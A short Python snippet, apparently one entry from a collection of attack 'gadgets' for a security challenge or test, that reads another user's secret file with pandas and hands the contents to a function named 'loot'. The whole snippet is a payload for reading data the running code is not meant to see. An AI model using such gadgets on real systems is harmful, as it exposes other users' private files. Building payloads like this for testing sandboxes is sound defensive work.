# kind: gadgets
# tries: Another user's file as a table

import pandas as pd

loot(pd.read_csv(VICTIM["secret"], header=None).to_string())
